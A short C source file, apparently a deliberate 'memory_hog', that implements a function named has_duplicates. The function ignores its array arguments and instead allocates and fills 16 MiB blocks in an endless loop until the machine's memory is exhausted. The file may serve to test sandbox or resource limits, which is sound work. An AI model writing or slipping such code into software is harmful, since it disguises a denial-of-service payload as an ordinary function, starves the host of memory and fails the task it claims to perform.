/* memory_hog - allocates until nothing is left, touching every page so the
 * memory is really used. */
#include <stdlib.h>
#include <string.h>

#include "has_duplicates.h"

bool has_duplicates(const int *a, size_t n)
{
	(void)a;
	(void)n;
	for (;;) {
		char *p = malloc(16u << 20);
		if (!p)
			continue;
		memset(p, 1, 16u << 20);
	}
}
